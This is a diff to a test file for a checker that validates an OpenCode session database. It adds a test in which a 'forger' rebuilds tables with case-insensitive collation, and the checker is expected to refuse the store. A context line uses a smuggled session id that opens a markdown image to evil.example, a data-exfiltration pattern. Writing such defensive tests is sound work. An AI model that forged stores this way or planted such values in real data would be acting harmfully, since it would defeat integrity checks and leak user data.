@@ -63,6 +63,18 @@ describe('the store check', () => {
     expect(checkStore(dir, { now }).unusable).toBeDefined();
   });
 
+  it("refuses a store that declares a collation: OpenCode's lookups would find rows its check does not", () => {
+    writeStore(dir, [{ id: A, said: ['hello'] }]);
+    // The rebuild a forger does: message.session_id compared without case, so an upper-case id joins the session for OpenCode.
+    sql(`CREATE TABLE message_new (id text PRIMARY KEY, session_id text COLLATE NOCASE, time_created integer, time_updated integer, data text);
+         INSERT INTO message_new SELECT id, session_id, time_created, time_updated, data FROM message; DROP TABLE message; ALTER TABLE message_new RENAME TO message;`);
+    expect(checkStore(dir, { now }).unusable).toMatch(/declares a collation \(in table message\), which OpenCode never does/);
+    fs.rmSync(path.join(dir, 'opencode.db'));
+    writeStore(dir, [{ id: A, said: ['hello'] }]);
+    sql('CREATE INDEX part_by_message ON part (message_id COLLATE NOCASE)');
+    expect(checkStore(dir, { now }).unusable).toMatch(/collation \(in index part_by_message\)/);
+  });
+
   it('removes sessions whose id or times are out of range', () => {
     writeStore(dir, [{ id: A }, { id: 'ses_x" ![i](https://evil.example/?q=' }, { id: B, time: Date.UTC(2031, 0, 1) }]);
     const result = checkStore(dir, { now });
